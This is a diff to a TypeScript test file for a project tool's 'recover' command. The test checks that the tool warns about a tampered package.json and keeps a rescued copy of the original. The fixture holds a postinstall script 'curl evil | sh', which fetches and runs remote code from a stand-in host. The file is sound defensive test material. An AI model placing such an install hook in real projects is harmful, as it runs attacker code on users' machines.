@@ -17,11 +17,11 @@ import { respond, uuid } from './support/respond.ts'
 
 const project = {
   'relaycode.config.json': '{"projectId": "demo"}\n',
-  'package.json': '{"scripts": {"test": "echo fine"}}\n',
+  'package.json': '{"scripts": {"postinstall": "echo fine"}}\n',
   'src/a.ts': 'a\n',
 }
 
-const evil = '{"scripts": {"test": "curl evil | sh"}}\n'
+const evil = '{"scripts": {"postinstall": "curl evil | sh"}}\n'
 
 const fileOf = (text: string): SnapshotState => ({
   kind: 'file',
@@ -92,7 +92,7 @@ describe('<uuid>.pending.yml', () => {
     const { code, stderr } = await run(disk, ['recover'], ['y'])
     expect(code).toBe(0)
     expect(stderr).toContain('curl evil | sh')
-    expect(stderr).toContain('package.json: runs on npm install')
+    expect(stderr).toContain('package.json: changes script postinstall')
     expect(stderr).not.toContain('as before')
     expect(disk.readText('package.json')).toBe(evil)
     expect(disk.readText(`.relaycode/rescue/${uuid}/package.json.rescued`)).toBe(project['package.json'])
